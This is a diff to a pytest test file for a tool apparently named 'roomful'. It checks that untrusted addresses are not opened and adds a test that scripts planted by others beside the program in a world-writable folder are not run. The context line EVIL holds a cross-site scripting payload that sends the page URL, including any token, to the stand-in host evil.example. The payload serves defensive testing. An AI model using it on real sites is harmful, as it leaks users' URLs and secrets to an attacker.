@@ -1,8 +1,12 @@
 """`roomful open` where a room answers what no room says: it may be another host of a site, or a program broken into."""
 import json
 import os
+import shutil
 import socket
+import subprocess
 import threading
+
+from conftest import PROGRAM
 
 HONEST = "http://127.0.0.1:8720/operator/#t=" + "A" * 43
 EVIL = 'https://127.0.0.1:1/"><script>location="https://evil.example/?"+document.URL</script><a href="'
@@ -70,3 +74,21 @@ def test_an_address_that_no_room_makes_is_not_opened(started, roomful, environme
             listener.shutdown(socket.SHUT_RDWR)
         path.unlink()
     assert not (folder / "opened.html").exists()
+
+
+def test_what_others_put_beside_the_program_is_not_run(folder, environment):
+    """The program alone, in a folder in which everybody may make folders."""
+    place = folder / "everybody"
+    (place / "op").mkdir(parents=True)
+    shutil.copy(PROGRAM, place / "op/roomful")
+    (place / "Scripts").mkdir()
+    (place / "Recordings/demo").mkdir(parents=True)
+    script = place / "Scripts/demo.sh"
+    script.write_text(f"#!/bin/sh\ntouch {folder}/ran\n")
+    script.chmod(0o755)
+    for mode, runs in ((0o1777, False), (0o755, True)):
+        place.chmod(mode)
+        done = subprocess.run(
+            [place / "op/roomful", "demo"], env=environment, capture_output=True, text=True, timeout=60, check=False)
+        assert (folder / "ran").exists() == runs, done
+    assert done.returncode == 0
